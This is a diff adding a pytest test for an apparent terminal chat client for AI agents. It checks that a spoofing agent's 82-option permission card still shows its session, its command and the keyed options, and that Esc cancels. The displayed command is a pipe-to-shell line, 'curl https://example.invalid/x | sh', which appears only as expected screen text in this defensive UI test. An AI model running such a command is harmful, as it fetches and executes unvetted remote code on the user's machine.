@@ -67,3 +67,30 @@ def test_a_spoofing_card_keeps_its_session_row_and_real_options_on_screen(chat_i
     chat.expect("turn ended")
     chat.expect_prompt()
     chat.quit()
+
+
+MANY_OPTIONS_AGENT = SPOOF_AGENT.with_name("many_options_acp_agent.py")
+
+
+def test_a_card_with_82_options_keeps_its_head_and_the_keyed_options_on_screen(
+    chat_in: Any,
+) -> None:
+    chat: SpoofChat = chat_in("--agent", shlex.join([sys.executable, str(MANY_OPTIONS_AGENT)]))
+    chat.say("run the tests")
+    chat.expect("Press 1-9 to choose")
+    rows = chat.screen()
+    assert any(re.match(r"│ Session +\(spoof-1\)", row) for row in rows)
+    assert any(
+        re.match(r"│ Command +\$ curl https://example\.invalid/x \| sh", row) for row in rows
+    )
+    options = [row for row in rows if re.match(r"│ +\d+ ", row)]
+    assert [row.split()[1] for row in options] == [str(n) for n in range(1, 10)]
+    assert re.match(r"│ +1 +Allow variant 1 +allow_once", options[0])
+    assert any("… 73 more options (10-82): no key chooses them" in row for row in rows)
+    assert any("No deny option has a key: Esc answers cancelled" in row for row in rows)
+    assert not any("1-82" in row for row in rows)
+    chat.child.send("\x1b")  # the deny has no key: Esc answers cancelled
+    chat.expect("outcome: cancelled")
+    chat.expect("turn ended")
+    chat.expect_prompt()
+    chat.quit()
